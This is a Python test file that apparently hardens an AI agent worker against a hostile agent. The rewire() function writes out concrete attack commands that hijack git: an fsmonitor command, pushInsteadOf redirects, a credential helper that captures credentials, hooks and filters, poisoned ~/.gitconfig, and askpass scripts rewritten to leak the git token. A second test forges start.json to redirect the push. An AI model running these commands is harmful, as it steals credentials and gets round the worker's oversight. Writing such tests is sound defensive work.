"""A hostile agent rewires git wherever it can reach: its checkout's `.git` (fsmonitor,
pushInsteadOf, credential helper, hooks, filters, alternates, commondir), the worker's private
clone (same user on the local runtime), the worker user's `~/.gitconfig`, and any askpass script
it can find. None of it may run, redirect the push, or see the token; the push still works."""

from __future__ import annotations

import os
import subprocess

from ampx.core.models import AttemptOutcome
from ampx.gitops.repospec import remote_url
from ampx.sandbox.world import DEMO_REPO
from ampx.worker.attempt import Exit

from attacklib import as_user, the_uid

LEGIT = "@fake write calc.py def add(a, b):\\n    return a + b\\n\\n\\ndef mul(a, b):\\n    return a * b\\n"


def rewire(loot, url: str, worker_home) -> str:
    """The hostile agent's shell commands, one `@fake sh` line each."""
    hook = f"#!/bin/sh\\ntouch {loot}/ran-hook\\n"
    config = (f"git config core.fsmonitor 'touch {loot}/ran-fsmonitor; false' && "
              f"git config url.file://{loot}/evil.git.pushInsteadOf {url} && "
              f"git config url.file://{loot}/evil.git.insteadOf {url} && "
              f"git config credential.helper '!f() {{ cat >> {loot}/helper-got; }}; f' && "
              f"git config filter.evil.clean 'sh -c \"touch {loot}/ran-filter; cat\"' && "
              f"git config filter.evil.required true")
    lines = [
        f"git init -q --bare {loot}/evil.git",
        config,
        f"for h in pre-push pre-commit post-checkout post-index-change reference-transaction; do "
        f"printf '{hook}' > .git/hooks/$h; chmod +x .git/hooks/$h; done",
        "printf '* filter=evil\\n' > .gitattributes",
        f"echo {loot}/evil.git/objects > .git/objects/info/alternates",
        f"echo {loot}/evil.git > .git/commondir",
        # the private clone is the same user's on the local runtime
        "P=../../private/clone/.git; cp .git/config $P/config; cp .git/hooks/* $P/hooks/; "
        f"echo {loot}/evil.git > $P/commondir; echo {loot}/evil.git/objects > "
        "$P/objects/info/alternates",
        # the worker user's global configuration (a real agent finds HOME in /etc/passwd)
        f"cp .git/config {worker_home}/.gitconfig; cp .git/config $HOME/.gitconfig",
        # any askpass script left lying around
        "find ../.. /tmp -name 'askpass*' -user $(id -u) 2>/dev/null | while read f; do "
        f"printf '#!/bin/sh\\necho \"$AMPX_GIT_TOKEN\" >> {loot}/askpass-got\\n' > \"$f\"; done",
    ]
    return "\n".join(f"@fake sh {line}" for line in lines)


def assert_nothing_ran(hostile):
    found = sorted(p.name for p in hostile.loot.iterdir() if p.name != "evil.git")
    assert found == [], f"the agent's git wiring ran or received something: {found}"
    refs = subprocess.run(["git", "--git-dir", str(hostile.loot / "evil.git"), "for-each-ref"],
                          capture_output=True, text=True).stdout
    assert refs == "", "a push went to the agent's repository"


def test_nothing_the_agent_wires_into_git_runs_or_redirects_the_push(hostile):
    url = remote_url(hostile.world.emulator.url, DEMO_REPO)
    env = dict(hostile.env, AMPX_KEEP_WORKSPACES="1")
    task = hostile.new_task(f"Add mul\n{LEGIT}\n{rewire(hostile.loot, url, hostile.home)}")
    r = hostile.run_worker(task.name, env=env)
    assert r.returncode == Exit.OK, r.stdout + r.stderr
    rep = hostile.task(task.name).status.reports["1"]
    assert rep.outcome == AttemptOutcome.PUSHED
    assert hostile.world.emulator.branches(DEMO_REPO)[task.spec.branch] == rep.commit
    assert "def mul" in hostile.remote("show", f"{rep.commit}:calc.py")
    assert_nothing_ran(hostile)

    # attempt 2 starts under the ~/.gitconfig (and private clone) attempt 1 left behind
    hostile.next_attempt(task.name)
    r = hostile.run_worker(task.name, 2, env=env)
    assert r.returncode == Exit.OK, r.stdout + r.stderr
    assert hostile.task(task.name).status.reports["2"].outcome == AttemptOutcome.NO_CHANGE
    assert_nothing_ran(hostile)
    assert hostile.world.token not in r.stdout + r.stderr

    # control: git that trusts the agent's checkout and HOME runs every piece of it
    work = next(p for p in (hostile.base / "world" / "workspaces").glob("*-a1-*/agent/work"))
    git_env = {"PATH": os.environ["PATH"], "HOME": str(hostile.home), "GIT_TERMINAL_PROMPT": "0"}

    def git(*args):
        return subprocess.run([*as_user(the_uid()), "git", *args], cwd=str(work), env=git_env,
                              capture_output=True, text=True, timeout=60)

    # commondir/alternates make this checkout unusable; with them gone the rest is live
    os.unlink(work / ".git" / "commondir")
    os.unlink(work / ".git" / "objects" / "info" / "alternates")
    git("add", "-A")
    git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x")
    pushed = git("push", url, "HEAD:refs/heads/control")
    ran = {p.name for p in hostile.loot.iterdir()}
    assert {"ran-filter", "ran-fsmonitor", "ran-hook"} <= ran, ran
    # (the shallow checkout's push is then refused there, but it went to the agent's repository)
    assert f"To file://{hostile.loot}/evil.git" in pushed.stderr, pushed.stderr


def test_a_rewritten_start_point_cannot_send_the_push_elsewhere(hostile):
    """start.json is in the private directory, which the agent (same user) can reach on the
    local runtime: the worker keeps the start point in memory, and publish pushes only to the
    task's branch whatever the file says."""
    main = hostile.world.emulator.branches(DEMO_REPO)["main"]
    forged = ('{"branch": "main", "baseBranch": "main", "sourceBranch": "main", '
              f'"startSha": "{main}", "leaseSha": "{main}"}}')
    task = hostile.new_task(f"Add mul\n{LEGIT}\n@fake sh echo '{forged}' > ../../private/start.json")
    r = hostile.run_worker(task.name, env=dict(hostile.env, AMPX_KEEP_WORKSPACES="1"))
    assert r.returncode == Exit.OK, r.stdout + r.stderr
    rep = hostile.task(task.name).status.reports["1"]
    branches = hostile.world.emulator.branches(DEMO_REPO)
    assert branches["main"] == main and branches[task.spec.branch] == rep.commit
    written = next((hostile.base / "world" / "workspaces").glob("*-a1-*/private/start.json"))
    assert '"branch": "main"' in written.read_text(), "control: the agent did rewrite it"
